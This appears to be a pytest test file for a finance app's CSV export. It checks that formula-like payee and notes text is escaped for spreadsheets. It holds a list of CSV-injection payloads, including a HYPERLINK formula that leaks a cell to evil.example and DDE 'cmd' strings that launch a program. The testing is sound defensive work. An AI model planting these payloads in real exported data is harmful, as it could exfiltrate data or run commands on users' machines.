"""Exports are safe to open in a spreadsheet: formula-like text is escaped in the entries CSV
and ``--format csv`` output; the book zip keeps it exactly; amounts stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from permoney_desktop.cli import main
from permoney_desktop.domain.entry_values import NewEntry
from permoney_desktop.domain.ids import AccountId
from permoney_desktop.domain.spreadsheet_cells import spreadsheet_safe
from permoney_desktop.services import accounts, entries, exports
from permoney_desktop.services.ledger import Ledger

ATTACKS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.34", "+5", "0", "12", "Coffee", "", "a=b", "'=x"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


def _book(path: Path) -> Ledger:
    ledger = Ledger.open(path, create=True)
    acct, _ = accounts.create_account(ledger, "Checking", "checking", "USD")
    for i, text in enumerate(ATTACKS):
        entries.add_entry(
            ledger,
            NewEntry(
                AccountId(acct), date(2024, 3, 1 + i), Decimal("-12.34"), payee=text, notes=text
            ),
        )
    return ledger


def test_the_entries_csv_escapes_and_the_book_zip_does_not(tmp_path: Path) -> None:
    with _book(tmp_path / "b.permoney") as ledger:
        out = tmp_path / "entries.csv"
        assert exports.export_entries_csv(ledger, out) == len(ATTACKS)
        zpath = tmp_path / "book.zip"
        exports.export_book(ledger, zpath)
    with zipfile.ZipFile(zpath) as zf:
        text = zf.read("entries.csv").decode()
    stored = list(csv.DictReader(io.StringIO(text, newline="")))  # the book's own text
    assert len(stored) == len(ATTACKS)
    assert [r["notes"] for r in stored] == list(ATTACKS)  # lossless for import-book
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(ATTACKS)
    for field in ("payee", "notes"):
        # Every one of them starts the way a formula does (the payee as the book trimmed it).
        assert all(r[field].startswith(("=", "+", "-", "@", "\t", "\r")) for r in stored)
        assert [r[field] for r in rows] == ["'" + r[field] for r in stored]
    assert {r["amount"] for r in rows} == {"-12.34"}  # a number, not escaped


def test_cli_csv_output_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = tmp_path / "b.permoney"
    _book(book).close()
    capsys.readouterr()
    assert main(["--book", str(book), "tx", "list", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == len(ATTACKS)
    for field in ("payee", "notes"):
        values = [r[field] for r in rows if field in r]
        assert values and all(v.startswith("'") for v in values), values
